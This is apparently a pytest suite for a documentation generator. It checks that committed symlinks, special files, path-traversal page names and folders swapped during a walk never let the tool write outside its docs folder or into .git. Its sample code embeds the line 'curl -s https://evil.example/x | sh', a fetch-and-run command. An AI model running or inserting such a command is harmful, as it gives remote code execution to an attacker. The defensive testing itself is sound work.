"""A repository that commits links, folders and look-alikes where docs go: nothing outside its docs folder changes."""

from __future__ import annotations

import json
import os
import random
import socket
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from rotary_batch.errors import InputError
from rotary_batch.pages import folder_stack as stack_module
from rotary_batch.pages.descriptors import BlockedError
from rotary_batch.pages.files import SyncResult, accept, inventory, remove_others, sync_pages
from rotary_batch.pages.front import sign
from rotary_batch.pages.safe_folder import open_safe_folder

COMMAND = "curl -s https://evil.example/x | sh"
CODE = {
    "src/box.py": f'"""\n{COMMAND}\n"""\n\n\ndef put(thing):\n    """{COMMAND}"""\n    return thing\n',
    "lib/wrap.py": "def wrap(thing):\n    return [thing]\n",
    "top.py": f'"""{COMMAND}"""\n',
}


def rotary(*arguments: object, home: Path) -> subprocess.CompletedProcess[str]:
    command = [sys.executable, "-m", "rotary_batch.cli", *map(str, arguments)]
    return subprocess.run(command, capture_output=True, text=True, env=os.environ | {"HOME": str(home)}, timeout=250)


def snapshot(folder: Path, *, without: Path | None = None) -> dict[str, tuple[object, ...]]:
    """Everything below a folder, links as links."""
    found = {}
    for path in sorted(folder.rglob("*")):
        if without is None or (path != without and without not in path.parents):
            info = path.lstat()
            content = path.readlink() if path.is_symlink() else path.read_bytes() if path.is_file() else None
            found[str(path)] = (stat.filemode(info.st_mode), info.st_ino, info.st_mtime_ns * path.is_file(), content)
    return found


@pytest.fixture
def home(tmp_path) -> Path:
    """A home with what an attacker would like to change."""
    folder = tmp_path / "victim"
    (folder / "bin").mkdir(parents=True)
    (folder / ".bashrc").write_text("# mine\n")
    (folder / "bin" / "index.md").write_text("mine\n")
    return folder


def test_committed_links_in_the_docs_folder_are_never_written_through(make_repository, git, home):
    root = make_repository(CODE)
    docs = root / "rotary-docs"
    docs.mkdir()
    bashrc = home / ".bashrc"
    names = [
        f"{name}{end}" for name in ("llms.txt", "index.md", "top.py.md") for end in ("", ".rotary-tmp", ".rotary-new")
    ]
    for name in names:
        (docs / name).symlink_to(bashrc)
    for name in ("src", ".mkdocs"):
        (docs / name).symlink_to(home / "bin", target_is_directory=True)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "attack")
    before = snapshot(home), snapshot(root, without=docs)

    done = rotary("run", root, "--json", home=home)
    (outcome,) = json.loads(done.stdout)
    assert (done.returncode, outcome["outcome"], outcome["open"]) == (0, "done", 0), done.stderr
    assert (snapshot(home), snapshot(root, without=docs)) == before
    blocked = {".mkdocs/mkdocs.yml", "index.md", "llms.txt", "src/box.py.md", "src/index.md", "top.py.md"}
    assert {page for page, _ in outcome["pages_failed"]} == blocked
    assert all("a symbolic link" in reason for _, reason in outcome["pages_failed"])
    assert {str(path.relative_to(docs)) for path in docs.rglob("*") if path.is_file() and not path.is_symlink()} == {
        "lib/index.md",
        "lib/wrap.py.md",
        "llms-full.txt",
        "onboarding.md",
        "symbol-index.md",
    }
    assert all((docs / name).is_symlink() for name in (*names, "src", ".mkdocs"))
    report = next(Path(os.environ["XDG_STATE_HOME"]).rglob("*.md")).read_text()
    assert all(f"\n- {page.replace('_', chr(92) + '_')}: " in report for page in blocked)

    drift = json.loads(rotary("check", root, "--json", home=home).stdout)
    assert set(drift["blocked"]) == {page for page in blocked if page.endswith(".md")}
    assert "a symbolic link" in rotary("render", root, "--accept", "ours", "index.md", home=home).stderr
    assert "a symbolic link" in rotary("render", root, "--accept", "theirs", "src/index.md", home=home).stderr
    assert (snapshot(home), snapshot(root, without=docs)) == before


@pytest.mark.parametrize(
    ("link", "out"),
    [("rotary-docs", "rotary-docs"), ("docs", "docs/api"), ("docs/api", "docs/api"), ("docs", "{root}/docs/api")],
)
def test_a_docs_folder_that_a_link_leads_to_is_refused(link, out, make_repository, git, home):
    root = make_repository(CODE)
    (root / link).parent.mkdir(exist_ok=True)
    (root / link).symlink_to(home, target_is_directory=True)
    before = snapshot(home), snapshot(root)
    for create in (True, False):
        with pytest.raises(InputError, match="a symbolic link, not a folder; docs go into real folders only"):
            open_safe_folder(root, out.format(root=root), create=create)
    assert (snapshot(home), snapshot(root)) == before
    if link == "rotary-docs":
        for command in ("index", "check"):
            done = rotary(command, root, home=home)
            errors = [line for line in done.stderr.splitlines() if line.startswith("rotary-batch: ")]
            assert (done.returncode, ["a symbolic link" in line for line in errors]) == (3, [True])
        assert (snapshot(home), snapshot(root)) == before


@pytest.mark.parametrize("kind", ["clone", "worktree"])
def test_no_link_of_the_clone_around_a_documented_folder_is_followed(kind, make_repository, git, home, tmp_path):
    root = make_repository(CODE | {"sub/a.py": "x = 1\n"})
    (root / "docs").symlink_to(home, target_is_directory=True)
    git(root, "add", "-A")
    git(root, "commit", "-qm", "attack")
    if kind == "worktree":
        git(root, "worktree", "add", "-q", str(tmp_path / "second"))
        root = tmp_path / "second"
    before = snapshot(home), snapshot(root)
    for out in ("docs/api", "docs/bin/api"):
        with pytest.raises(InputError, match="docs: a symbolic link, not a folder; docs go into real folders only"):
            open_safe_folder(root / "sub", str(root / out), create=True)
    assert (snapshot(home), snapshot(root)) == before
    with open_safe_folder(root / "sub", str(root / "real" / "api"), create=True) as folder:
        assert folder.path == root / "real" / "api"


def test_a_repository_whose_own_folder_became_a_link_is_refused(tmp_path, home):
    (tmp_path / "a" / "b").mkdir(parents=True)
    (tmp_path / "a" / "b").rmdir()
    (tmp_path / "a" / "b").symlink_to(home)
    with pytest.raises(InputError, match="a symbolic link"):
        open_safe_folder(tmp_path / "a" / "b", "rotary-docs", create=True)
    assert not (home / "rotary-docs").exists()


def test_links_of_the_user_above_an_absolute_docs_folder_are_followed(tmp_path):
    (tmp_path / "repo").mkdir()
    (tmp_path / "real").mkdir()
    (tmp_path / "short").symlink_to(tmp_path / "real")
    with open_safe_folder(tmp_path / "repo", f"{tmp_path}/short/new/docs", create=True) as folder:
        sync_pages(folder, [("a/b.md", b"x")], SyncResult())
    assert (tmp_path / "real" / "new" / "docs" / "a" / "b.md").read_bytes() == b"x"
    with pytest.raises(InputError, match="a symbolic link"):
        open_safe_folder(tmp_path / "repo", f"{tmp_path}/short", create=True)
    for out in (f"{tmp_path}/repo", ".", "", "docs/../x", ".git", ".GIT/hooks", "docs/.git/x", "/"):
        with pytest.raises(InputError, match=r"folder of their own|folder for docs alone"):
            open_safe_folder(tmp_path / "repo", out, create=True)
    assert list((tmp_path / "repo").iterdir()) == []


def put_in_the_way(kind: str, place: Path, elsewhere: Path) -> None:
    if kind == "folder":
        place.mkdir()
    elif kind == "pipe":
        os.mkfifo(place)
    elif kind == "socket":
        with socket.socket(socket.AF_UNIX) as listener:
            listener.bind(str(place))
    elif kind == "device":
        os.mknod(place, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    elif kind == "link":
        place.symlink_to(elsewhere)
    elif kind == "dangling link":
        place.symlink_to(elsewhere.parent / "new")
    elif kind == "huge file":
        with place.open("wb") as file:
            file.truncate(5 * 10**9)


KINDS = ["folder", "pipe", "socket", "link", "dangling link", "huge file"] + ["device"] * (os.geteuid() == 0)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("name", ["b.md", "b.md.rotary-new", "sub", "llms.txt", ".mkdocs"])
def test_what_is_in_the_place_of_a_page_makes_that_page_fail_alone(kind, name, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # a socket's path is short
    (tmp_path / "outside.txt").write_text("mine")
    (tmp_path / "d").mkdir()
    pages = dict.fromkeys(("a.md", "b.md", "sub/c.md", "llms.txt", ".mkdocs/mkdocs.yml", "z.md"), b"new")
    if name.endswith(".rotary-new"):
        (tmp_path / "d" / "b.md").write_text("a person's")
    place = tmp_path / "d" / name
    put_in_the_way(kind, Path("d") / name, tmp_path / "outside.txt")
    info, done = place.lstat(), SyncResult()
    with open_safe_folder(tmp_path, "d", create=True) as folder:
        sync_pages(folder, pages.items(), done)
        list(folder.walk())
    page = name.removesuffix(".rotary-new")
    if kind == "folder" and name in {"sub", ".mkdocs"}:
        assert (done.failed, sorted(done.written)) == ([], sorted(pages))
        return
    (failed,) = {path for path in pages if path == page or path.startswith(page + "/")}
    assert [failure.page for failure in done.failed] == [failed]
    assert sorted(done.written) == sorted(set(pages) - {failed})
    assert (place.lstat().st_ino, place.lstat().st_mode, place.lstat().st_size) == (
        info.st_ino,
        info.st_mode,
        info.st_size,
    )
    assert {path.name for path in tmp_path.iterdir()} == {"outside.txt", "d"}
    assert (tmp_path / "outside.txt").read_text() == "mine"


def test_a_hard_link_keeps_its_bytes(tmp_path):
    ours = sign(["old"], "<!-- {} -->")
    (tmp_path / "outside.txt").write_bytes(ours)
    (tmp_path / "d").mkdir()
    (tmp_path / "d" / "llms.txt").hardlink_to(tmp_path / "outside.txt")
    done = SyncResult()
    with open_safe_folder(tmp_path, "d", create=True) as folder:
        sync_pages(folder, [("llms.txt", b"new")], done)
    assert (done.written, (tmp_path / "outside.txt").read_bytes()) == (["llms.txt"], ours)
    assert (tmp_path / "d" / "llms.txt").read_bytes() == b"new"


@pytest.mark.parametrize(
    "path",
    [
        "../x.md",
        "a/../../x.md",
        "/etc/x.md",
        "a//x.md",
        "./x.md",
        ".git/hooks/post-checkout",
        "a/.Git/x.md",
        ".g\u200cit/x.md",
        "",
        "a\0b.md",
        "lone\udcffname\ud800.md",
        "n" * 300 + ".md",
    ],
)
def test_no_name_of_a_page_leads_out_of_the_folder_or_into_git(path, tmp_path):
    (tmp_path / "d").mkdir()
    done = SyncResult()
    with open_safe_folder(tmp_path, "d", create=True) as folder:
        sync_pages(folder, [(path, b"x"), ("good.md", b"y")], done)
        for call in (folder.read, folder.remove):
            with pytest.raises(BlockedError):
                call(path)
    assert ([failure.page for failure in done.failed], done.written) == ([path], ["good.md"])
    assert [str(found.relative_to(tmp_path)) for found in tmp_path.rglob("*")] == ["d", "d/good.md"]


def test_a_disk_that_refuses_ends_everything_and_leaves_no_temporary(tmp_path, monkeypatch):
    """ENOSPC is no fault of one page."""
    from rotary_batch.errors import StorageError

    calls = iter(range(100))

    def full(_descriptor):
        if next(calls) == 2:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with open_safe_folder(tmp_path, "d", create=True) as folder, pytest.raises(StorageError, match="free some space"):
        sync_pages(folder, [(f"{n}.md", b"x") for n in range(5)], SyncResult())
    assert list((tmp_path / "d").iterdir()) == []


def num_open() -> int:
    return sum(1 for _ in Path("/proc/self/fd").iterdir())


@pytest.mark.parametrize("max_open", [1, 2, 100])
def test_a_walk_finds_what_is_there_with_few_folders_open(max_open, tmp_path, monkeypatch):
    monkeypatch.setattr(stack_module, "MAX_OPEN", max_open)
    chance, docs = random.Random(1), tmp_path / "d"
    for _ in range(100):
        folder = docs.joinpath(*(chance.choice("abc") for _ in range(chance.randint(0, 7))))
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{chance.randint(0, 5)}.md").write_text("x")
    before = num_open()
    with open_safe_folder(tmp_path, "d", create=False) as folder:
        found = []
        for one in folder.walk():
            found.append(one.path)
            assert num_open() <= before + 1 + max_open + 2  # a folder is listed, one is opened
    assert sorted(found) == sorted(str(path.relative_to(docs)) for path in docs.rglob("*.md"))
    assert num_open() == before


def test_a_walk_opens_each_folder_from_the_one_above_it(tmp_path, monkeypatch):
    """A thousand levels with two folders each: 2,000 openings and those of the way back, not a million."""
    path = tmp_path / "d"
    subprocess.run(["mkdir", "-p", str(path / "/".join("d" * 1000))], check=True)
    descriptor = os.open(path, os.O_RDONLY)
    for _ in range(1000):
        os.mkdir("side", dir_fd=descriptor)
        below = os.open("d", os.O_RDONLY, dir_fd=descriptor)
        os.close(descriptor)
        descriptor = below
    os.close(os.open("last.md", os.O_CREAT | os.O_WRONLY, dir_fd=descriptor))
    os.close(descriptor)
    opened = []
    open_folder = stack_module.open_folder
    monkeypatch.setattr(stack_module, "open_folder", lambda *args: opened.append(args) or open_folder(*args))
    try:
        with open_safe_folder(tmp_path, "d", create=False) as folder:
            assert [one.path for one in inventory(folder)] == ["d/" * 1000 + "last.md"]
    finally:
        subprocess.run(["rm", "-rf", str(path)], check=True)
    assert 2000 <= len(opened) < 2000 + 1000 * 10


def test_a_folder_that_is_replaced_while_the_walk_is_below_it_is_left_out(tmp_path, monkeypatch):
    """The way down is opened anew, and a link is in it now."""
    monkeypatch.setattr(stack_module, "MAX_OPEN", 1)
    for name in ("a/b/c/d", "a/x"):
        (tmp_path / "d" / name).mkdir(parents=True)
        (tmp_path / "d" / name / "p.md").write_text("x")
    (tmp_path / "d" / "z.md").write_text("x")
    for replaced in (False, True):
        found = []
        with open_safe_folder(tmp_path, "d", create=False) as folder:
            for one in folder.walk():
                found.append(one.path)
                if replaced and one.path.startswith("a/") and not (tmp_path / "away").exists():
                    (tmp_path / "d" / "a").rename(tmp_path / "away")
                    (tmp_path / "d" / "a").symlink_to(tmp_path / "away")
        assert set(found) <= {"z.md", "a/b/c/d/p.md", "a/x/p.md"}
        assert len(found) == (2 if replaced else 3)


@pytest.mark.parametrize("below", ["", "sub"])
def test_what_vanishes_during_the_walk_is_not_there_and_the_rest_is(below, tmp_path):
    docs = tmp_path / "d"
    (docs / below / "folder").mkdir(parents=True)
    names = {f"{n}.md" for n in range(9)}
    for name in names:
        (docs / below / name).write_text("x")
    with open_safe_folder(tmp_path, "d", create=False) as folder:
        walk = folder.walk()
        first = next(walk).path.rpartition("/")[2]
        gone = sorted(names - {first})[::2]
        for name in gone:
            (docs / below / name).unlink()
        (docs / below / "folder").rmdir()
        assert {first, *(one.path.rpartition("/")[2] for one in walk)} == names - set(gone)


def test_many_conflicts_are_looked_up_and_not_searched(tmp_path):
    """New pages next to edited ones stay; a list that cannot be searched shows that they are looked up in a set."""

    class Unsearched(list):
        def __contains__(self, _):
            pytest.fail("searched from its start")

    done = SyncResult(conflicts=Unsearched(["a.md"]))
    with open_safe_folder(tmp_path, "d", create=True) as folder:
        folder.publish([folder.stage(name, sign([], "<!-- {} -->")) for name in ("llms.txt.rotary-new",)])
        done.conflicts.append("llms.txt")
        remove_others(folder, inventory(folder), set(), done)
        assert folder.read("llms.txt.rotary-new") is not None
        done.conflicts.pop()
        remove_others(folder, inventory(folder), set(), done)
        assert folder.read("llms.txt.rotary-new") is None


def test_a_page_that_cannot_be_marked_as_a_persons_keeps_the_new_one(tmp_path, monkeypatch):
    docs = tmp_path / "d"
    docs.mkdir()
    (docs / "a.md").write_text("all mine")
    with open_safe_folder(tmp_path, "d", create=True) as folder:
        sync_pages(folder, [("a.md", b"new")], SyncResult())

        def refuse(*_, **__):
            raise PermissionError(1, "Operation not permitted")

        monkeypatch.setattr(os, "rename", refuse)
        with pytest.raises(InputError, match=r"d/a\.md: not marked as yours, .* Operation not permitted"):
            accept(folder, "a.md", "theirs")
    assert {path.name: path.read_bytes() for path in docs.iterdir()} == {
        "a.md": b"all mine",
        "a.md.rotary-new": b"new",
    }
